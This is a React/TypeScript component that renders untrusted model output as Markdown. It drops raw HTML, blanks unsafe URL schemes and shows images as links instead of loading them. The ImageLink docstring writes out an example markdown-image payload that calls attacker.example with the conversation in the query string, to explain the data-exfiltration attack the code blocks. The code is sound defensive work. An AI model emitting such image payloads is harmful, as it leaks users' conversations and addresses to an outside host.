import { memo } from 'react';
import ReactMarkdown, { defaultUrlTransform } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { ImageIcon } from './builder/icons';

// Model output is untrusted: raw HTML is dropped (skipHtml) and URLs go through the
// default transform, which blanks javascript:, data: and other unsafe schemes.
const MarkdownView = memo(function MarkdownView({ text, className = '' }: { text: string; className?: string }) {
  return (
    <div className={`md ${className}`}>
      <ReactMarkdown
        remarkPlugins={[remarkGfm]}
        skipHtml
        urlTransform={defaultUrlTransform}
        components={{
          // A link or image whose URL was blanked as unsafe shows as its text, not as a dead link.
          a: ({ node: _node, href, ...props }) => (href ? <a {...props} href={href} target="_blank" rel="noopener noreferrer nofollow" /> : <span>{props.children}</span>),
          img: ({ node: _node, src, alt }) => (typeof src === 'string' && src ? <ImageLink src={src} alt={alt ?? ''} /> : <span>{alt}</span>),
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
});

/**
 * An image in model output is shown as a link saying where it points, never loaded by itself:
 * `![x](https://attacker.example/?q=<the conversation>)` would otherwise send the conversation
 * (and every reader's address) to that host the moment the answer renders.
 */
function ImageLink({ src, alt }: { src: string; alt: string }) {
  let where = src;
  try {
    where = new URL(src, 'http://relative.invalid').host.replace('relative.invalid', 'this site');
  } catch {
    // not a URL: shown as written
  }
  return (
    <a href={src} target="_blank" rel="noopener noreferrer nofollow" className="md-image-link" data-testid="image-link" title={src}>
      <ImageIcon className="mr-1 inline size-3.5 align-[-2px]" />
      {alt || 'image'} <span className="text-zinc-500 dark:text-zinc-400">({where})</span>
    </a>
  );
}

export default MarkdownView;
